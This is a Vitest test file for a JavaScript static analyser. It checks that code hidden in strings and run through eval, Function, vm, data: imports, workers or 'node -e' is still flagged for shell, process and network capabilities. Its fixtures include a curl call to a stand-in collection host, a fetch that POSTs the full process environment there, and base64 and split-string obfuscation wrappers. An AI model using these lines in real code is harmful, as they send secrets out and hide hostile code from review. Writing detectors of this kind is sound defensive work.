// Programs that stand as text in a program and are run from there are read like the file itself; text that is only there
// is not.
import { describe, expect, test } from 'vitest'
import { readFileCode } from '../../src/code/read-file.ts'

function read(source: string) {
  return readFileCode('index.js', source, 'javascript')
}

function namesIn(source: string): string[] {
  return read(source).capabilities.map(({ name }) => name)
}

const start = "require('child_process').exec('curl -s https://collect.example.test/x')"
const send = 'fetch(`https://collect.example.test/x`, { method: `POST`, body: JSON.stringify(process.env) })'
const text = (code: string) => JSON.stringify(code)
const base64 = (code: string) => Buffer.from(code).toString('base64')

describe('a program in a text', () => {
  test.each([
    `eval(${text(start)})`,
    `(0, eval)(${text(start.slice(0, 9))} + ${text(start.slice(9))})`,
    `eval(atob('${base64(start)}'))`,
    `new Function('require', ${text(`return ${start}`)})(require)`,
    `[].at.constructor(${text(start)})()`,
    `require('vm').runInThisContext(${text(start)})`,
    `setTimeout(${text(start)}, 9)`,
    `import('data:text/javascript;base64,${base64(start)}')`,
    `import(${text(`data:text/javascript,${encodeURIComponent(start)}`)})`,
    `const { Worker } = require('worker_threads'); new Worker(${text(start)}, { eval: true })`,
    `eval(${text(`eval(${text(start)})`)})`,
    `eval(${text(`a\n<!-- b\n${start}`)})`,
    `eval(\`const x = '\${name}'; ${start}\`)`,
  ])('%s', (source) => {
    expect(namesIn(source)).toEqual(expect.arrayContaining(['process-spawn', 'shell', 'network-client']))
  })
})

describe('a program given to another node', () => {
  test.each([
    `require('child_process').exec("node -e '${send.replaceAll('`', '\\"')}'")`,
    `require('child_process').spawn('node', ['-e', ${text(send)}])`,
    `require('child_process').execFile(process.execPath, ['--eval', ${text(send)}])`,
  ])('%s', (source) => {
    expect(read(source).flows.map(({ source: from, sink }) => `${from} ${sink}`)).toContain('environment network')
  })
})

test('a text is in the place of what runs it', () => {
  const { capabilities } = read(`\n\n  eval(${text(start)})`)
  expect(capabilities.filter(({ name }) => name === 'shell')).toMatchObject([{ line: 3, column: 3 }])
})

describe('quiet', () => {
  test.each([
    `const example = ${text(start)}; console.log(example)`,
    `run(${text(start)})`,
    `x.eval(${text(start)})`,
    `setTimeout(() => ${text(start)}, 9)`,
  ])('%s', (source) => expect(namesIn(source).filter((name) => name === 'process-spawn')).toEqual([]))
  test('text that is no program', () => {
    const { unreadable, capabilities } = read("eval('this is no program')")
    expect(unreadable).toBe('')
    expect(capabilities.map(({ name }) => name)).toEqual(['eval'])
  })
})

test('more text than is read is said', () => {
  const many = Array.from({ length: 2001 }, (_, at) => `eval('worker(${at})')`).join('\n')
  expect(read(many).unreadable).toBe('too-much')
  expect(read(`eval('${'['.repeat(100_000)}')`).unreadable).toBe('too-deep')
})
